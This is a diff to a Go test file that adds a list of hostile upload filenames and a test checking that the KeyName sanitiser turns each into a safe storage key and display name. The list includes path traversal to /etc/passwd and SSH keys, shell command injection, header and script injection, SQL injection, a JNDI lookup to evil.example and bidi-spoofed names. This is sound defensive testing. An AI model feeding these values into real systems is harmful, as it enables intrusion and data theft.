@@ -1,8 +1,10 @@
 package intake
 
 import (
+	"fmt"
 	"strings"
 	"testing"
+	"unicode"
 	"unicode/utf8"
 
 	"golang.org/x/text/unicode/norm"
@@ -37,7 +39,7 @@ func TestOriginalFilename(t *testing.T) {
 	}
 }
 
-func TestKeyNameOfNaughtyStrings(t *testing.T) {
+func TestKeyName(t *testing.T) {
 	for _, tc := range []struct{ name, ext, want string }{
 		{"image1.jpg", ".jpg", "image1.jpg"},
 		{"IMAGE.JPG", ".jpg", "IMAGE.JPG"},
@@ -81,8 +83,36 @@ func TestKeyNameOfNaughtyStrings(t *testing.T) {
 	}
 }
 
+// attackNames are names that mean something to file systems, shells, terminals, headers
+// or web pages.
+var attackNames = []string{
+	"../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\a.jpg", "\\\\evil.example\\share\\a.jpg", "..", ".", "./a.jpg", "a/../../b.jpg", "....//....//a.jpg",
+	"%2e%2e%2fa.jpg", "..%c0%af..%c0%afa.jpg", "..／..／a.jpg", "․․/a.jpg", "a.jpg/", "/", "//", "~root/.ssh/authorized_keys", ".htaccess", ".jpg", "-rf", "--help", "|id", "`id`.jpg", "$(id).jpg", "a;id.jpg", "a&&id.jpg",
+	"a\x00.jpg", "a\x00b/../c.jpg", "a\r\nSet-Cookie: a=b.jpg", "a\nb.jpg", "a\tb.jpg", "\x1b[2Ja.jpg", "\x07a.jpg", "\x7fa.jpg", "\u0085a.jpg", "\u2028a.jpg",
+	"\u202egpj.exe", "a\u2066b\u2069.jpg", "\u200f\u200ea.jpg", "\u061ca.jpg", "\u200b\u200ba.jpg", "\ufeffa.jpg", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A.jpg", "ﷺ.jpg", "👩‍👩‍👧‍👦.jpg", "é.jpg", "İı.jpg",
+	`a".jpg`, `a"; filename="b.exe`, "a';b.jpg", `"><script>alert(1)</script>.jpg`, "<img src=x onerror=alert(1)>.jpg", "' OR 1=1 --.jpg", "'; DROP TABLE jobs; --", "${jndi:ldap://evil.example/a}.jpg", "{{7*7}}.jpg", "%s%s%n.jpg",
+	"=cmd|'/c calc'!A1", "CON", "nul.jpg", "aux.png", "COM1.jpg", "a.jpg ", " a.jpg", "a.jpg.", "a.php", "a.php.jpg", "a.html", "a.svg", "a.jpg;.php", "a.jpg::$DATA", "a:b.jpg", "a*?.jpg",
+	strings.Repeat("a", 1024), strings.Repeat("é", 512), strings.Repeat("a/", 500) + "a.jpg", strings.Repeat(".", 1000), strings.Repeat("a", 250) + ".jpg", strings.Repeat("../", 300) + "a",
+}
+
+// TestAttackNames verifies that nothing dangerous is left of a hostile name, neither in
+// the key of the object nor in the filename that the API shows.
+func TestAttackNames(t *testing.T) {
+	for _, name := range attackNames {
+		t.Run(fmt.Sprintf("%.60q", name), func(t *testing.T) {
+			for _, ext := range []string{"", ".jpg", ".png"} {
+				checkKeyName(t, name, ext)
+			}
+			shown := originalFilename(name, "", 0)
+			if strings.ContainsFunc(shown, func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == '\u2028' }) {
+				t.Errorf("shown as %q", shown)
+			}
+		})
+	}
+}
+
 func FuzzKeyName(f *testing.F) {
-	for _, s := range []string{"", ".", "..", "a/b.jpg", " .x", "é.png", "\xff", "a. .jpg", "\u0301.jpg", "\u1100\u1161.jpe"} {
+	for _, s := range append(attackNames, "", "a/b.jpg", " .x", "é.png", "\xff", "a. .jpg", "\u0301.jpg", "\u1100\u1161.jpe") {
 		f.Add(s, ".jpg")
 		f.Add(s, ".png")
 		f.Add(s, "")
@@ -91,21 +121,31 @@ func FuzzKeyName(f *testing.F) {
 		if ext != ".jpg" && ext != ".png" {
 			ext = ""
 		}
-		got := KeyName(name, ext)
-		if again := KeyName(name, ext); again != got {
-			t.Fatalf("KeyName(%q, %q) gave %q, then %q", name, ext, got, again)
-		}
-		if again := KeyName(got, ext); again != got {
-			t.Fatalf("KeyName(%q, %q) is not final: %q, then %q", name, ext, got, again)
-		}
-		if err := objectstore.CheckKey("0123456789abcdef0123456789abcdef/" + got); err != nil {
-			t.Fatalf("KeyName(%q, %q) = %q is no element of a key: %v", name, ext, got, err)
-		}
-		switch {
-		case len(got) > maxKeyNameBytes, strings.ContainsRune(got, '/'), strings.HasPrefix(got, "."), !utf8.ValidString(got),
-			strings.Map(safe, got) != got, !norm.NFC.IsNormalString(got), strings.TrimSpace(got) != got,
-			ext != "" && !fits(strings.ToLower(got[strings.LastIndexByte(got, '.'):]), ext):
-			t.Fatalf("KeyName(%q, %q) = %q", name, ext, got)
-		}
+		checkKeyName(t, name, ext)
 	})
+}
+
+// checkKeyName verifies that the key name of a file is one safe element of a key, and
+// that its own key name is the same.
+func checkKeyName(t *testing.T, name, ext string) {
+	t.Helper()
+	unsafe := func(r rune) bool {
+		return !unicode.IsLetter(r) && !unicode.IsDigit(r) && !unicode.IsMark(r) && !strings.ContainsRune(" ._-()+", r)
+	}
+	got := KeyName(name, ext)
+	if again := KeyName(name, ext); again != got {
+		t.Fatalf("KeyName(%q, %q) gave %q, then %q", name, ext, got, again)
+	}
+	if again := KeyName(got, ext); again != got {
+		t.Fatalf("KeyName(%q, %q) is not final: %q, then %q", name, ext, got, again)
+	}
+	if err := objectstore.CheckKey("0123456789abcdef0123456789abcdef/" + got); err != nil {
+		t.Fatalf("KeyName(%q, %q) = %q is no element of a key: %v", name, ext, got, err)
+	}
+	switch {
+	case len(got) > maxKeyNameBytes, strings.ContainsRune(got, '/'), strings.HasPrefix(got, "."), !utf8.ValidString(got),
+		strings.ContainsFunc(got, unsafe), !norm.NFC.IsNormalString(got), strings.TrimSpace(got) != got,
+		ext != "" && !fits(strings.ToLower(got[strings.LastIndexByte(got, '.'):]), ext):
+		t.Fatalf("KeyName(%q, %q) = %q", name, ext, got)
+	}
 }
